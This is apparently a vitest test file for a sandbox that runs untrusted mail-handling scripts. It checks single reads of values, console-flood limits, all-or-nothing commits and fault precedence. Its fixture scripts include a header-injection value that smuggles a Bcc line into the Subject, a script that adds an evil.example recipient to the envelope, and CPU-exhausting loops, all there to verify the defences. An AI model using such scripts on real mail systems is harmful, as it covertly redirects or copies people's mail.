// What a script that fails, floods or plays with the host API does to its message: all of it or nothing, and each value once.
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { Wall } from "./wall.ts";

const EDIT = `msg.Fields.Item("urn:schemas:mailheader:x-wall").Value = "yes"; msg.Fields.Update(); msg.DataSource.Save();`;
const LIST = '"http://schemas.microsoft.com/cdo/smtpenvelope/recipientlist"';

const SCRIPTS: Readonly<Record<string, string>> = {
  innocent: EDIT,
  counting: `let reads = 0; msg.Subject = { toString() { reads += 1; return reads === 1 ? "first" : "second\\r\\nBcc: x@y.example"; } };
    console.log(reads, msg.Subject); msg.DataSource.Save();`,
  "array-like": `msg.Subject = { length: 1, get 0() { for (;;); }, [Symbol.toPrimitive]: () => "primitive" }; console.log(msg.Subject);`,
  "proxy-text": `msg.TextBody = new Proxy({}, { get: (_t, k) => (k === Symbol.toPrimitive ? () => "text" : undefined) }); console.log(msg.TextBody.trim());`,
  flood: `${EDIT} for (let i = 0; i < 50_000; i++) console.log("x".repeat(2000));`,
  "save-then-throw": `${EDIT} msg.EnvelopeFields.Item(${LIST}).Value = "SMTP:eve@evil.example;"; msg.EnvelopeFields.Update(); throw new Error("after it");`,
  "save-then-loop": `${EDIT} for (;;);`,
  "save-then-reject": `${EDIT} return Promise.reject(new Error("later"));`,
  "skip-then-throw": `status.Value = cdoSkipRemainingSinks; throw new Error("x");`,
  "badmail-then-throw": `msg.EnvelopeFields.Item("http://schemas.microsoft.com/cdo/smtpenvelope/messagestatus").Value = 3; msg.EnvelopeFields.Update(); throw new Error("x");`,
  "status-and-answer": `status.Value = cdoSkipRemainingSinks; return 0;`,
};

let wall: Wall;
beforeAll(async () => {
  wall = await Wall.start(SCRIPTS, { timeoutMs: 300, cpuMs: 300 });
});
afterAll(() => wall.stop());

describe("X16 a value handed to the host API", () => {
  test("is read once: what was checked is what is used", async () => {
    const outcome = await wall.run("counting");
    expect(outcome.logs[0]?.text).toBe("1 first");
    const inserted = outcome.splices?.map(({ bytes }) => bytes.toString()).join("");
    expect(inserted).toContain("first");
    expect(inserted).not.toContain("Bcc");
  });

  test("may be an object of any kind: its text counts", async () => {
    expect((await wall.run("array-like")).logs[0]?.text).toBe("primitive");
    expect((await wall.run("proxy-text")).logs[0]?.text).toBe("text");
  });
});

test("X26 a flood on the console is cut, counted, and costs the script its own time only", async () => {
  const { logs, logsDropped, fault } = await wall.run("flood");
  expect(logs.length).toBeLessThanOrEqual(100);
  if (fault === undefined) expect(logsDropped).toBeGreaterThan(49_000);
  expect(logs.reduce((sum, { text }) => sum + text.length, 0)).toBeLessThanOrEqual(16 * 1024);
});

describe("X29 all or nothing", () => {
  test.each(["save-then-throw", "save-then-loop", "save-then-reject"])("%s commits nothing", async (name) => {
    const { fault, splices, recipients, sender, status } = await wall.run(name);
    expect(["throw", "timeout"]).toContain(fault?.kind);
    expect([splices, recipients, sender, status]).toEqual([undefined, undefined, undefined, undefined]);
  });

  test("a script behind one that failed sees the message as it was, and its own edit counts", async () => {
    const { outcomes } = await wall.runAll(["save-then-throw", "innocent"], { continueOnFault: true });
    expect(outcomes.map(({ fault }) => fault?.kind)).toEqual(["throw", undefined]);
    expect(
      outcomes[1]?.splices
        ?.map(({ bytes }) => bytes.toString())
        .join("")
        .match(/x-wall/gi),
    ).toHaveLength(1);
  });
});

describe("X31 precedence", () => {
  test.each(["skip-then-throw", "badmail-then-throw"])(
    "%s: the fault counts, and nothing of the rest",
    async (name) => {
      const { fault, verdict, status } = await wall.run(name);
      expect(fault?.kind).toBe("throw");
      expect(verdict).toBe(0);
      expect(status).toBeUndefined();
    },
  );

  test("what the script answers counts before the status object", async () => {
    expect((await wall.run("status-and-answer")).verdict).toBe(0);
  });
});
